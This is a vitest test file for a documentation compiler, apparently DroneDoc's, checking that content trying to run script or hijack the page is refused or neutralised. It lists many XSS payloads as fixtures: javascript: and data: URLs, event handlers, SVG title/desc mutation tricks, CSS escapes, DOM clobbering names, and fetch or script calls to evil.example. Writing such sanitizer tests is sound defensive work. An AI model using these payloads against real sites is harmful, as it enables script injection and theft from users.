/** Content that tries to run something: each is refused with a problem, and what is left of it is harmless. */

import { expect, test } from "vitest";
import { compile } from "./compile.fixture";
import { findDangers } from "./dangers.fixture";

test("what finds dangers finds them", () => {
  expect(findDangers(['<p onclick="x()">', { props: { onClick: "x" } }])).toEqual([
    "onclick",
    "onClick",
  ]);
  expect(findDangers(["<a href='java\tscript:x'>", "<script>x</script>"])).toEqual([
    "href=java\tscript:x",
    "script",
    "script",
  ]);
  expect(findDangers(['<p a="b"" onclick=x><p =onclick=y onclick=z>'])).toEqual([
    "onclick",
    "onclick",
  ]);
  expect(findDangers(['<p style="color:red"><i style="position:\\66 ixed">'])).toEqual([
    "style=position:\\66 ixed",
  ]);
  expect(findDangers(['<svg><desc><title><g id="</title><b onclick=x>">'])).toEqual(["onclick"]);
  expect(findDangers(['<g fill="url(#a)"/><g fill="url(//a)"/><a id="dronedocTrust">'])).toEqual([
    "fill=url(//a)",
    "id=dronedocTrust",
  ]);
  expect(findDangers(["<p>&lt;script&gt; onclick=x javascript:x</p>"])).toEqual([]);
  const diagram = { island: "Mermaid", props: { code: "<n onClick=t" } };
  expect(findDangers([{ ...diagram, body: [] }])).toEqual([]);
  expect(findDangers([{ ...diagram, body: ['<p onclick="x()">'] }])).toEqual(["onclick"]);
  expect(findDangers([{ ...diagram, island: "Tabs", body: [] }])).toEqual(["onclick"]);
});

test("no id of the page's own scripts is taken, whichever way it is written", async () => {
  for (const text of [
    '<img id="___loader" src="https://cdn.example/a.png" alt="A" />',
    ":::note{#___loader}\n\nWords.\n\n:::",
    "## Words {#___loader}",
  ]) {
    const { body, problems } = await compile(text);
    expect(problems[0]?.message, text).toContain('the id "___loader" belongs to the page');
    expect(JSON.stringify(body), text).not.toContain("___loader");
  }
  const heading = await compile("## DroneDoc\n\n## ___loader");
  expect(heading.problems).toEqual([]);
  expect(heading.headings.map(({ id }) => id)).toEqual(["the-dronedoc", "the-___loader"]);
});

test.each([
  '<iframe name="documentElement" src="https://cdn.example/" title="T" />',
  '<iframe name="getElementById" src="https://cdn.example/" title="T" />',
  '<img name="body" src="https://cdn.example/a.png" alt="A" />',
  '<iframe {...{ name: "cookie" }} src="https://cdn.example/" title="T" />',
])("%s takes no property of the document", async (text) => {
  const { body, problems } = await compile(text);
  expect(problems).toMatchObject([
    { kind: "unknownKey", message: expect.stringContaining("name") },
  ]);
  expect(JSON.stringify(body)).not.toContain("name=");
  expect(findDangers(body)).toEqual([]);
});

const refused = [
  "<script>alert(1)</script>",
  "<script src='https://evil.example/x.js' />",
  "<svg><script>{`alert(1)`}</script></svg>",
  '<svg onload="alert(1)"><path d="M0 0" /></svg>',
  '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,x#y" /></svg>',
  "<svg><foreignObject><b>x</b></foreignObject></svg>",
  // A browser reads HTML in these two, and ends the title within the attribute.
  `<svg><desc><title><g id="</title><img src=x onerror=alert(1)>" /></title></desc></svg>`,
  `<svg><title><title><g id="</title><script>alert(1)</script>" /></title></title></svg>`,
  // A paragraph ends the drawing, and the title is one of HTML.
  `<svg>\n\n**x**\n\n<title><g id="</title><img src=x onerror=alert(1)>" /></title>\n\n</svg>`,
  "<svg>\n\n- x\n\n</svg>",
  '<svg><set attributeName="href" to="javascript:x" /></svg>',
  '<b onClick="alert(1)">x</b>',
  "<b onMouseOver={() => alert(1)}>x</b>",
  '<img src="x" onError="alert(1)" />',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href={"java\\tscript:alert(1)"}>x</a>',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "[x][ref]\n\n[ref]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  '<iframe src="data:text/html,x" />',
  '<iframe srcDoc="x" />',
  '<video poster="javascript:x" src="./a.mp4" />',
  '<object data="x" />',
  '<embed src="x" />',
  '<base href="https://evil.example" />',
  '<meta httpEquiv="refresh" content="0;url=https://evil.example" />',
  '<link rel="stylesheet" href="https://evil.example/x.css" />',
  '<form action="https://evil.example"><input /></form>',
  '<button formAction="javascript:x">x</button>',
  "{alert(1)}",
  "{(() => fetch('https://evil.example'))()}",
  "export const x = alert(1)",
  '<Tabs {...evil}><TabItem value="a">x</TabItem></Tabs>',
  "<Unknown />",
  // Browsers drop these before they read the address.
  "[x](&nbsp;javascript:alert(1))",
  "[x](&#xFEFF;javascript:alert(1))",
  '<a href={"\\u2028javascript:alert(1)"}>x</a>',
  "[x](pathname://javascript:alert(1))",
  "[x](pathname://pathname://&nbsp;javascript:alert(1))",
  '<a href="pathname://data:text/html,x">x</a>',
  '<b style="position:\\66ixed;inset:0">x</b>',
  '<b style="background:u\\72l(https://evil.example/x.png)">x</b>',
  "<b style={{ background: 'ur\\\\6c (//evil.example/x.png)' }}>x</b>",
  `<b style="--x:'/*';background:url(//evil.example/x.png);--y:'*/'">x</b>`,
  '<b style="--a:fixed;position:var(--a);inset:0">x</b>',
  '<b style="position/**/:/**/fixed">x</b>',
  '<svg><rect fill="url(https://evil.example/x.svg#a)" /></svg>',
  '<svg><rect cursor="u\\72l(//evil.example/x.cur)" /></svg>',
  '<a href="/x" data-docs-entry="=javascript:alert(1)">x</a>',
  '<b data-action="log-out">x</b>',
  '<b id="dronedocTrust">x</b>',
  '<b id="webpackChunkdronedoc">x</b>',
  "## Heading {#___loader}",
];

test.each(refused)("%s is a problem with its line, and nothing of it runs", async (text) => {
  const { body, problems } = await compile(`Text\n\n${text}`);
  expect(findDangers(body)).toEqual([]);
  expect(
    problems.filter(({ kind }) => kind === "content" || kind === "unknownComponent"),
  ).not.toEqual([]);
  for (const problem of problems) expect(problem.line).toBeGreaterThanOrEqual(3);
});

test.each(["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"])(
  "the attribute %s, which every object has, is one that no tag knows",
  async (name) => {
    const { body, problems } = await compile(`Text\n\n<b ${name}="x">words</b>`);
    expect(JSON.stringify(body)).toContain("<b>words</b>");
    expect(problems.map(({ line, message }) => [line, message])).toEqual([
      [3, `<b> has the unknown attribute "${name}"; it is left out`],
    ]);
  },
);

/** Ways to write the signs of a token in which the text itself has neither. */
const forged: [string, string, Record<string, string>][] = [
  [
    "the front matter",
    '---\ntitle: A\nkeywords: ["\\uE000asset:../../x\\uE001"]\n---\n\n{frontMatter.keywords[0]}',
    {},
  ],
  [
    "a JSON file",
    'import d from "./d.json"\n\n{d.x}',
    { "docs/guide/d.json": '{"x": "\\uE000asset:../../x\\uE001"}' },
  ],
  [
    "the glossary",
    '<Term id="imu">IMU</Term>',
    {
      "glossary.yml":
        'Words:\n  imu:\n    term: IMU\n    definition: "\\uE000asset:../../x\\uE001"\n',
    },
  ],
  [
    "a heading of the glossary",
    "<Glossary />",
    {
      "glossary.yml":
        '"\\uE000asset:../../x\\uE001":\n  imu:\n    term: IMU\n    definition: A sensor.\n',
    },
  ],
  ["the address of a picture", "![](./%EE%80%81%3Cimg%20src=x%20onerror=alert(1)%3E.png)", {}],
  ["the address of a file", "[x](./%EE%80%81%EE%80%80asset:x%EE%80%81.pdf)", {}],
];

test.each(forged)("a token that is written in %s is none", async (_, text, files) => {
  const { body, problems } = await compile(text, files);
  const html = JSON.stringify(body);
  expect(problems).toEqual([]);
  // What stands between the signs is a token's own: what is left is what a reader gets.
  const left = html.replace(/\uE000(?:image|asset):[^\uE000\uE001]*\uE001/g, "");
  expect(html).not.toMatch(/\uE000asset:\.\./);
  expect(left).not.toMatch(/[\uE000\uE001]|onerror/);
});

/** Texts that look like code where a text belongs: allowed, and no more than texts. */
const texts = [
  "import x from 'https://evil.example/x.js'",
  "`<script>alert(1)</script>`",
  '```html title="<img src=x onerror=alert(1)>"\n<script>alert(1)</script>\n```',
  '```js"onclick="alert(1)\nx\n```',
  '## Heading <b>x</b> {#a"onclick="alert(1)}',
  ":::note[<img src=x onerror=alert(1)>]\n\ntext\n\n:::",
  '![" onerror="alert(1)](./a.png)',
  '[x](/docs/x "\\" onclick=\\"alert(1)")',
  "$\\href{javascript:alert(1)}{x}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n```',
  '```mermaid\nflowchart LR\n  A["$& onload=alert(1) x"] --> B["$` x $\' y $1"]\n```',
  '```mermaid\nflowchart LR\n  A["a #quot; onload=alert(1)"] --> B\n```',
  '```mermaid\nflowchart LR\n  A-->B\n  click A "javascript:alert(1)"\n```',
  "Text[^1]\n\n[^1]: <b>x</b> `onclick=x`",
];

test.each(texts)("%s stays a text", async (text) => {
  const { body } = await compile(`Text\n\n${text}`);
  expect(findDangers(body)).toEqual([]);
});
